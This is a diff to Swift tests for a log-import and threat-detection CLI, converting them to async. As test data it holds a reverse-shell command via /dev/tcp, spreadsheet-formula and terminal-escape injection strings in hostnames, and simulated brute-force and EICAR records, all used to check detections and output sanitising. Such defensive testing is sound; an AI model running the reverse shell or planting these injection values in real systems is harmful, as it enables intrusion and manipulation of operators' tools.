@@ -12,39 +12,39 @@ import VigilTooling
 
         """
 
-    func alerts(_ scratch: TemporaryDirectory, _ extra: [String] = []) throws -> [[String: Any]] {
-        let result = try vigil(["alerts", "--format", "json"] + extra, in: scratch.url)
+    func alerts(_ scratch: TemporaryDirectory, _ extra: [String] = []) async throws -> [[String: Any]] {
+        let result = try await vigil(["alerts", "--format", "json"] + extra, in: scratch.url)
         #expect(result.status == 0, "\(result.stderr)")
         return try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [[String: Any]])
     }
 
-    @Test func aFileEndingInsideAnAuditdGroupStillYieldsTheProcessAndItsDetection() throws {
+    @Test func aFileEndingInsideAnAuditdGroupStillYieldsTheProcessAndItsDetection() async throws {
         let scratch = TemporaryDirectory()
         try scratch.write("audit.log", Self.unterminatedAuditdGroup)
-        try vigil(["integration", "on", "auditd"], in: scratch.url)
-        let imported = try vigil(["import", "--integration", "auditd", "--format", "auditd", "--hostname", "web-01", "--json", "audit.log"], in: scratch.url)
+        try await vigil(["integration", "on", "auditd"], in: scratch.url)
+        let imported = try await vigil(["import", "--integration", "auditd", "--format", "auditd", "--hostname", "web-01", "--json", "audit.log"], in: scratch.url)
         #expect(imported.status == 0, "\(imported.stderr)")
         // Two raw auditd records plus the process_creation event assembled from the group.
         #expect(imported.stdout.contains("\"events_stored\":3"))
         // The default pack's SigmaHQ rules see the assembled process too.
-        let raised = try alerts(scratch, ["--rule", "Reverse shell command line"])
+        let raised = try await alerts(scratch, ["--rule", "Reverse shell command line"])
         #expect(raised.count == 1)
         #expect((raised.first?["matched_fields"] as? [String: Any])?["CommandLine"] as? String == "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1")
-        #expect(try alerts(scratch).contains { $0["title"] as? String == "Bash Interactive Shell" })
+        #expect(try await alerts(scratch).contains { $0["title"] as? String == "Bash Interactive Shell" })
     }
 
-    @Test func aClamAVLogWithoutItsSummaryStillYieldsTheDetection() throws {
+    @Test func aClamAVLogWithoutItsSummaryStillYieldsTheDetection() async throws {
         let scratch = TemporaryDirectory()
         // clamscan killed before it printed the scan summary: the FOUND line waits for a date that never comes.
         try scratch.write("clamav.log", "/tmp/eicar.com.txt: Win.Test.EICAR_HDB-1.UNOFFICIAL FOUND\n")
-        try vigil(["integration", "on", "clamav"], in: scratch.url)
-        let imported = try vigil(["import", "--integration", "clamav", "--format", "clamav", "--hostname", "web-01", "--json", "clamav.log"], in: scratch.url)
+        try await vigil(["integration", "on", "clamav"], in: scratch.url)
+        let imported = try await vigil(["import", "--integration", "clamav", "--format", "clamav", "--hostname", "web-01", "--json", "clamav.log"], in: scratch.url)
         #expect(imported.status == 0, "\(imported.stderr)")
         #expect(imported.stdout.contains("\"events_stored\":1"))
-        #expect(try alerts(scratch).map { $0["title"] as? String } == ["EICAR test file detected"])
+        #expect(try await alerts(scratch).map { $0["title"] as? String } == ["EICAR test file detected"])
     }
 
-    @Test func aJSONArrayWithEscapedQuotesAndBracketsInStringsStoresEveryElement() throws {
+    @Test func aJSONArrayWithEscapedQuotesAndBracketsInStringsStoresEveryElement() async throws {
         let scratch = TemporaryDirectory()
         let array = #"""
             [{"@timestamp":"2026-11-27T10:00:00Z","hostname":"web-01","msg":"5\" pipe","n":1},
@@ -52,11 +52,11 @@ import VigilTooling
              {"@timestamp":"2026-11-27T10:00:02Z","hostname":"web-01","msg":"plain","n":3}]
             """#
         try scratch.write("events.json", array)
-        try vigil(["integration", "on", "json"], in: scratch.url)
-        let imported = try vigil(["import", "--integration", "json", "--format", "json", "--json", "events.json"], in: scratch.url)
+        try await vigil(["integration", "on", "json"], in: scratch.url)
+        let imported = try await vigil(["import", "--integration", "json", "--format", "json", "--json", "events.json"], in: scratch.url)
         #expect(imported.status == 0, "\(imported.stderr)")
         #expect(imported.stdout.contains("\"events_stored\":3,\"rejected\":0"))
-        let events = try vigil(["events", "--format", "json"], in: scratch.url)
+        let events = try await vigil(["events", "--format", "json"], in: scratch.url)
         let rows = try #require(try JSONSerialization.jsonObject(with: Data(events.stdout.utf8)) as? [[String: Any]])
         let messages = Set(rows.compactMap { ($0["fields"] as? [String: Any])?["msg"] as? String })
         #expect(messages == ["5\" pipe", "braces } ] { [ and a \\", "plain"])
@@ -65,17 +65,17 @@ import VigilTooling
     /// Host names that each need CSV quoting or neutralizing, or are plain non-ASCII text.
     static let awkwardHostnames = ["web,01", "say \"hi\"", "two\nlines", "=HYPERLINK(\"http://x\")", "+1", "@sum", "Zürich-é"]
 
-    @Test func csvOutputReadsBackFieldForFieldWithARealCSVReader() throws {
+    @Test func csvOutputReadsBackFieldForFieldWithARealCSVReader() async throws {
         let scratch = TemporaryDirectory()
         let lines = Self.awkwardHostnames.enumerated().map { index, host in
             let escaped = host.replacingOccurrences(of: "\"", with: "\\\"").replacingOccurrences(of: "\n", with: "\\n")
             return #"{"@timestamp":"2026-11-27T10:00:0\#(index)Z","hostname":"\#(escaped)","os_platform":"linux","logsource":{"category":"antivirus"},"Signature":"Unix.Trojan, \"Mirai\" é"}"#
         }
         try scratch.write("events.ndjson", lines.joined(separator: "\n"))
-        try vigil(["integration", "on", "json"], in: scratch.url)
-        #expect(try vigil(["import", "--integration", "json", "events.ndjson"], in: scratch.url).status == 0)
+        try await vigil(["integration", "on", "json"], in: scratch.url)
+        #expect(try await vigil(["import", "--integration", "json", "events.ndjson"], in: scratch.url).status == 0)
 
-        let csv = try vigil(["alerts", "--format", "csv"], in: scratch.url)
+        let csv = try await vigil(["alerts", "--format", "csv"], in: scratch.url)
         #expect(csv.status == 0)
         let reader = try CSVReader(string: csv.stdout, hasHeaderRow: true)
         let header = try #require(reader.headerRow)
@@ -94,14 +94,14 @@ import VigilTooling
         #expect(hosts.sorted() == expected.sorted())
     }
 
-    @Test func tablesShowControlCharactersFromEventsAsEscapesNeverRaw() throws {
+    @Test func tablesShowControlCharactersFromEventsAsEscapesNeverRaw() async throws {
         let scratch = TemporaryDirectory()
         let hostile = #"{"@timestamp":"2026-11-27T10:00:00Z","hostname":"evil\u001b[2J\u001b]0;owned\u0007\rweb-01","logsource":{"category":"antivirus"},"Signature":"Unix.Trojan.Mirai-1"}"#
         try scratch.write("events.ndjson", hostile)
-        try vigil(["integration", "on", "json"], in: scratch.url)
-        #expect(try vigil(["import", "--integration", "json", "events.ndjson"], in: scratch.url).status == 0)
+        try await vigil(["integration", "on", "json"], in: scratch.url)
+        #expect(try await vigil(["import", "--integration", "json", "events.ndjson"], in: scratch.url).status == 0)
         for command in [["alerts"], ["machines"], ["alert", "show", "1"]] {
-            let result = try vigil(command, in: scratch.url)
+            let result = try await vigil(command, in: scratch.url)
             #expect(result.status == 0, "\(command): \(result.stderr)")
             #expect(!result.stdout.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" || $0.value == 0x7F }, "\(command) printed a raw control character")
             #expect(result.stdout.contains(#"evil\e[2J\e]0;owned\a\rweb-01"#), "\(command): \(result.stdout)")
@@ -115,20 +115,20 @@ import VigilTooling
         #"{"@timestamp":"\#(time)","hostname":"web-01","os_platform":"linux","logsource":{"category":"antivirus"},"Signature":"Unix.Trojan.Mirai-1"}"#
     }
 
-    @Test func theDefaultDedupeWindowIsOneHourFromTheCLI() throws {
+    @Test func theDefaultDedupeWindowIsOneHourFromTheCLI() async throws {
         let scratch = TemporaryDirectory()
         try scratch.write("events.ndjson", [
             antivirus("2026-03-03T10:00:00Z"), antivirus("2026-03-03T10:59:59Z"), antivirus("2026-03-03T12:00:00Z"),
         ].joined(separator: "\n"))
-        try vigil(["integration", "on", "json"], in: scratch.url)
-        let imported = try vigil(["import", "--integration", "json", "--json", "events.ndjson"], in: scratch.url)
+        try await vigil(["integration", "on", "json"], in: scratch.url)
+        let imported = try await vigil(["import", "--integration", "json", "--json", "events.ndjson"], in: scratch.url)
         #expect(imported.stdout.contains("\"alerts_raised\":2"), "\(imported.stdout)")
-        let alerts = try vigil(["alerts", "--format", "json"], in: scratch.url)
+        let alerts = try await vigil(["alerts", "--format", "json"], in: scratch.url)
         let rows = try #require(try JSONSerialization.jsonObject(with: Data(alerts.stdout.utf8)) as? [[String: Any]])
         #expect(rows.compactMap { $0["event_count"] as? Int }.sorted() == [1, 2])
     }
 
-    @Test func aBruteForceWindowIncludesTheEventExactlyFiveMinutesBefore() throws {
+    @Test func aBruteForceWindowIncludesTheEventExactlyFiveMinutesBefore() async throws {
         // Ten failures with the first exactly 300 s before the last: both window edges count.
         func failures(lastAt second: Int) -> String {
             let seconds = (0..<9).map { $0 * 30 } + [second]
@@ -140,16 +140,16 @@ import VigilTooling
         for (last, expected) in [(300, ["SSH brute force from one address"]), (301, [])] {
             let scratch = TemporaryDirectory()
             try scratch.write("auth.log", failures(lastAt: last))
-            try vigil(["integration", "on", "syslog"], in: scratch.url)
-            let imported = try vigil(["import", "--integration", "syslog", "--format", "syslog", "auth.log"], in: scratch.url)
+            try await vigil(["integration", "on", "syslog"], in: scratch.url)
+            let imported = try await vigil(["import", "--integration", "syslog", "--format", "syslog", "auth.log"], in: scratch.url)
             #expect(imported.status == 0, "\(imported.stderr)")
-            let alerts = try vigil(["alerts", "--format", "json"], in: scratch.url)
+            let alerts = try await vigil(["alerts", "--format", "json"], in: scratch.url)
             let rows = try #require(try JSONSerialization.jsonObject(with: Data(alerts.stdout.utf8)) as? [[String: Any]])
             #expect(rows.compactMap { $0["title"] as? String } == expected, "last failure at \(last) s")
         }
     }
 
-    @Test func conditionPrecedenceInALoadedRuleFile() throws {
+    @Test func conditionPrecedenceInALoadedRuleFile() async throws {
         // `a or b and not c` is `a or (b and (not c))`.
         let scratch = TemporaryDirectory()
         try scratch.write("rule.yml", """
@@ -176,7 +176,7 @@ import VigilTooling
             (#"{"@timestamp":"2026-11-27T10:00:0\#(index)Z","hostname":"h\#(index)","logsource":{"category":"process_creation"},\#(pair.0)}"#, pair.1)
         }
         try scratch.write("events.ndjson", events.map(\.0).joined(separator: "\n"))
-        let hunted = try vigil(["hunt", "--rules", "rule.yml", "--output-format", "jsonl", "events.ndjson"], in: scratch.url)
+        let hunted = try await vigil(["hunt", "--rules", "rule.yml", "--output-format", "jsonl", "events.ndjson"], in: scratch.url)
         #expect(hunted.status == 0, "\(hunted.stderr)")
         let hosts = Set(hunted.stdout.split(separator: "\n").compactMap { line in
             (try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])?["hostname"] as? String
